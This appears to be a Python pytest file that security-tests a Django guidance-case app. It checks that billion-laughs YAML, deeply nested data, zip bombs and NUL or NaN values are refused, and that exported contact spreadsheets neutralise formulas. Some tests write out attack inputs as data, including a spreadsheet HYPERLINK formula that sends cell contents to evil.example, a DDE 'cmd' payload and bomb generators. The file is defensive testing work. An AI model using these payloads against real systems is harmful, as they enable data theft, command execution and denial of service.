"""Bad case files and fields are refused with one line (exit 2) or a form error, within a
second, and nothing breaks on a saved case (issue 10, point 4; security review D7, D8, D10)."""

import io
import json
import time
import zipfile

import pytest
from django.core.management import CommandError, call_command

from guidance import cases, models
from tests.admin_pages import form_data, make_editor
from tests.conftest import manage

pytestmark = pytest.mark.django_db

FACTS = 'facts: {concerns: [fgm], timing: ongoing, county: "03"}\n'


def billion_laughs(key="title"):
    lines = ["slug: bomb", FACTS.strip(), 'x0: &x0 ["lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        lines.append(f"x{i}: &x{i} [{', '.join([f'*x{i - 1}'] * 10)}]")
    lines.append(f"{key}: *x8")
    return "\n".join(lines) + "\n"


BAD_FILES = {
    "billion-laughs.yaml": (billion_laughs(), "aliases"),
    "deep.yaml": ("slug: deep\ntitle: " + "[" * 50_000 + "]" * 50_000 + "\n" + FACTS, "nest"),
    "deep.json": ("[" * 50_000 + "]" * 50_000, "nest"),
    "digits.yaml": (
        "slug: digits\ntitle: T\nfacts: {concerns: [fgm], county: " + "9" * 5000 + "}\n",
        "a value cannot be read",
    ),
    "nul.yaml": ('slug: nul\ntitle: "Tit\\0tel"\n' + FACTS, "NUL"),
    "nul-raw.yaml": ("slug: nul\ntitle: Tit\x00tel\n" + FACTS, "NUL"),
    "nan.json": ('{"slug": "nan", "title": NaN, "facts": {"concerns": ["fgm"]}}', "NaN"),
    "big.yaml": ("slug: big\ntitle: T\nsummary: " + "x" * (600 * 1024) + "\n" + FACTS, "KB"),
    "flow.yaml": ("slug: [" + "a," * 200_000, "malformed YAML"),
    "long-text.yaml": ("slug: long\ntitle: T\nsummary: " + "x" * 30_000 + "\n" + FACTS,
                       "longer than"),
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(BAD_FILES))
def test_a_bad_case_file_is_refused_in_one_line_within_a_second(tmp_path, name):
    text, expected = BAD_FILES[name]
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    for command in ("evaluate", "loadcases"):
        started = time.monotonic()
        with pytest.raises(CommandError) as refused:
            call_command(command, str(path))
        took = time.monotonic() - started
        assert took < 1.0, f"{command} took {took:.2f} s"
        message = str(refused.value)
        assert refused.value.returncode == 2
        assert "\n" not in message and message.startswith(str(path)), message
        assert expected in message, message
    assert not models.Case.objects.filter(slug__in=["bomb", "deep", "nul", "big"]).exists()


def test_from_the_shell_a_billion_laughs_is_exit_2_and_one_line(seeded_sqlite, tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(billion_laughs(), encoding="utf-8")
    done = manage("evaluate", str(path), sqlite_path=seeded_sqlite)
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1 and "aliases" in done.stderr


def zipped(**members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, data in members.items():
            bundle.writestr(name, data)
    return buffer.getvalue()


class Upload(io.BytesIO):
    def __init__(self, name, data):
        super().__init__(data)
        self.name = name


def test_a_zip_bomb_is_refused_after_a_few_megabytes():
    bomb = zipped(**{"bomb.yaml": b"#" * (200 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    started = time.monotonic()
    with pytest.raises(cases.CaseFileError, match="more than 8 MB unpacked"):
        cases.import_files([Upload("bomb.zip", bomb)])
    assert time.monotonic() - started < 1.0


def test_a_zip_of_many_small_files_is_bounded_in_all():
    many = zipped(**{f"c{i}.yaml": b"#" * (400 * 1024) for i in range(30)})
    with pytest.raises(cases.CaseFileError, match="MB unpacked"):
        cases.import_files([Upload("many.zip", many)])


def test_evaluate_reads_the_multi_document_file_dumpcases_writes(tmp_path, capsys):
    call_command("dumpcases", "webinar-1-gravid-kvinne", "akutt-drapstrusler")
    dumped = capsys.readouterr().out
    path = tmp_path / "two.yaml"
    path.write_text(dumped, encoding="utf-8")
    call_command("evaluate", "--check", str(path))
    out = capsys.readouterr().out
    assert "PASS webinar-1-gravid-kvinne" in out and "PASS akutt-drapstrusler" in out
    assert "2 passed, 0 failed" in out


@pytest.fixture
def content_editor(client):
    client.force_login(make_editor("Innholdsredaktør", username="ola"))
    return client


@pytest.mark.parametrize(
    "prompts",
    [
        '{"timing": NaN}',
        '{"timing": Infinity}',
        '{"timing": "Hva \\u0000 skjer?"}',
        '{"timing": ' + "9" * 5000 + "}",
        "[" * 5000 + "]" * 5000,
        '["a"]',
        '{"not_a_fact": "Hva?"}',
    ],
)
def test_a_case_field_outside_the_contract_is_a_form_error(content_editor, prompts):
    case = models.Case.objects.get(slug="eldre-mann-utnyttet-av-sonn")
    url = f"/admin/guidance/case/{case.pk}/change/"
    data = form_data(content_editor, url, prompts=prompts)
    response = content_editor.post(url, data)
    assert response.status_code == 200
    assert "errorlist" in response.content.decode()
    case.refresh_from_db()
    assert isinstance(case.prompts, dict) and "not_a_fact" not in case.prompts


def test_a_case_saved_before_the_checks_does_not_break_the_public_file_or_dumpcases(client, capsys):
    models.Case.objects.filter(slug="eldre-mann-utnyttet-av-sonn").update(
        prompts=["a"], expect={"outcomes": "AVERT_DUTY"}
    )
    assert client.get("/trainer/eldre-mann-utnyttet-av-sonn/case.yaml").status_code == 200
    call_command("dumpcases", "eldre-mann-utnyttet-av-sonn")
    assert "slug: eldre-mann-utnyttet-av-sonn" in capsys.readouterr().out


def test_the_contact_export_makes_formulas_inert_and_reads_them_back(client):
    from guidance.admin_resources import ContactResource

    rosa = models.Contact.objects.get(slug="rosa")
    rosa.name_nb = '=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")'
    rosa.serves_nb = "@SUM(1+1)*cmd|' /C calc'!A0"
    rosa.save()
    dataset = ContactResource().export(models.Contact.objects.filter(pk=rosa.pk))
    row = dict(zip(dataset.headers, dataset[0], strict=True))
    assert row["name_nb"].startswith("'=") and row["serves_nb"].startswith("'@")
    assert row["phones"].startswith("'+") or not row["phones"].startswith("+")
    csv = dataset.export("csv")
    assert "\n=" not in csv and ",=" not in csv and ",@" not in csv
    xlsx = dataset.export("xlsx")
    sheet = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    json.dumps(row)  # plain values, nothing else


def test_an_inert_cell_reads_back_as_saved():
    from guidance.admin_resources import inert, revived

    for value in ("=1+1", "+47 22 33 11 60", "-", "@x", "plain", "'quoted"):
        assert revived(inert(value)) == value
